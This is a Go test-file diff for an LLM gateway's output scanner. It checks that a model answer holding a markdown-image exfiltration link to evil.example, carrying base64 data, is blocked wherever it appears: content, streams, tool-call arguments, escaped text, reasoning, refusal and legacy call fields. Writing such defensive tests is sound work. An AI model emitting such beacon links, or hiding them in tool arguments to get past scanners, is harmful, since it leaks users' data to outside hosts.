@@ -326,28 +326,56 @@ func TestCallerThatLeaves(t *testing.T) {
 	require.Positive(t, r.Output)
 }
 
+// TestOutputScanner has a row for each place in which an answer may hold what must
+// not be passed on.
 func TestOutputScanner(t *testing.T) {
+	const evil = "Here it is: ![x](https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ) and more."
 	h := newHouse(t, func(_ *house, c *gateway.Config) {
 		rules, err := output.New(output.Options{})
 		require.NoError(t, err)
 		c.Output = rules
 	})
-	for _, m := range h.machines {
-		for range 2 {
-			m.Script(llmaastest.Reply{Contains: "attack", Text: "Here it is: ![x](https://evil.example/?data=c2VjcmV0IGRhdGEgaGVyZQ) and more."})
-		}
+	message := func(members string) llmaastest.Reply {
+		return llmaastest.Reply{Status: 200, Header: http.Header{"Content-Type": {"application/json"}},
+			Body: `{"choices":[{"index":0,"message":{"role":"assistant",` + members + `},"finish_reason":"stop"}],"usage":{"prompt_tokens":7,"completion_tokens":9,"total_tokens":16}}`}
 	}
-	for _, more := range []string{"", `,"stream":true`} {
-		good := h.send(t, h.key, "POST", "/v1/chat/completions", chat("llama3.3:70b", "A [link](https://example.com) please", more))
-		require.Equal(t, 200, good.status)
-		bad := h.send(t, h.key, "POST", "/v1/chat/completions", chat("llama3.3:70b", "attack", more))
-		require.NotContains(t, bad.body, "evil.example")
-		require.Contains(t, bad.body, `"answer_blocked"`)
+	for _, row := range []struct {
+		name  string
+		reply llmaastest.Reply
+		more  string
+	}{
+		{"content", llmaastest.Reply{Text: evil}, ""},
+		{"content, streamed", llmaastest.Reply{Text: evil}, `,"stream":true`},
+		{"arguments", llmaastest.Reply{Tool: "mail", Text: `{"body":"` + evil + `"}`}, tool},
+		{"arguments, streamed", llmaastest.Reply{Tool: "mail", Text: `{"body":"` + evil + `"}`}, tool + `,"stream":true`},
+		{"arguments in escapes", llmaastest.Reply{Tool: "mail", Text: `{"body":"` + strings.ReplaceAll(evil, "!", `\u0021`) + `"}`}, tool},
+		{"arguments in escapes, streamed", llmaastest.Reply{Tool: "mail", Text: `{"body":"` + strings.ReplaceAll(evil, "!", `\u0021`) + `"}`}, tool + `,"stream":true`},
+		{"reasoning", message(`"content":"Hello","reasoning_content":"` + evil + `"`), ""},
+		{"refusal", message(`"content":null,"refusal":"` + evil + `"`), ""},
+		{"parts", message(`"content":[{"type":"text","text":"` + evil + `"}]`), ""},
+		{"a call of the old kind", message(`"content":null,"function_call":{"name":"mail","arguments":"` + evil + `"}`), ""},
+		{"a custom tool", message(`"content":null,"tool_calls":[{"id":"1","type":"custom","custom":{"name":"mail","input":"` + evil + `"}}]`), ""},
+	} {
+		t.Run(row.name, func(t *testing.T) {
+			for _, m := range h.machines {
+				row.reply.Contains = "attack on " + row.name + `"`
+				m.Script(row.reply)
+			}
+			good := h.send(t, h.key, "POST", "/v1/chat/completions", chat("llama3.3:70b", "A [link](https://example.com) please", row.more))
+			require.Equal(t, 200, good.status)
+			require.NotContains(t, good.body, "answer_blocked")
+			bad := h.send(t, h.key, "POST", "/v1/chat/completions", chat("llama3.3:70b", "attack on "+row.name, row.more))
+			require.NotContains(t, bad.body, "evil.example")
+			require.Contains(t, bad.body, `"answer_blocked"`)
+		})
 	}
 	for _, r := range h.records(t) {
 		require.Positive(t, r.Cost, "what a machine said is billed, shown or not")
 	}
 }
+
+// tool lets a machine call one.
+const tool = `,"tools":[{"type":"function","function":{"name":"mail","parameters":{"type":"object"}}}]`
 
 // unreachable is the state of limits on a server that is gone.
 type unreachable struct{}
